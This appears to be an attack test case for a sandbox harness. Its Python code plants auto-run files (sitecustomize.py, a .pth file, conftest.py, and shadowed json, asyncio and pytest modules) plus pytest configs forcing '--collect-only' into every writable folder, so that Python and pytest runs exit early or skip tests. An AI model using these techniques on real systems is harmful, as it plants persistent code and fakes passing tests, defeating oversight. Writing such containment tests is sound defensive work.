# Attack: writes what Python and pytest run by themselves into every folder that it may write to
# Expect: as without
# Needs: sandbox
def _attack():
    import os, site, sys, tempfile
    evil = "print('LOOT a planted file ran')\nimport os\nos._exit(0)\n"
    folders = {os.getcwd(), tempfile.gettempdir(), "/dev/shm", "/var/tmp", os.path.expanduser("~"), *sys.path, "/turtles"}
    folders |= {os.path.join(each, "..") for each in list(folders)} | {site.getusersitepackages()}
    for folder in folders:
        for name in ("sitecustomize.py", "usercustomize.py", "evil.pth", "conftest.py", "pytest.py", "json.py", "asyncio.py"):
            try:
                with open(os.path.join(folder, name), "x") as file:
                    file.write("import os; os._exit(0)" if name.endswith(".pth") else evil)
            except OSError:
                pass
        for name in ("pytest.ini", "tox.ini", "setup.cfg", "pyproject.toml"):
            try:
                with open(os.path.join(folder, name), "x") as file:
                    file.write("[pytest]\naddopts = --collect-only\n")
            except OSError:
                pass
    _struck()


_attack()
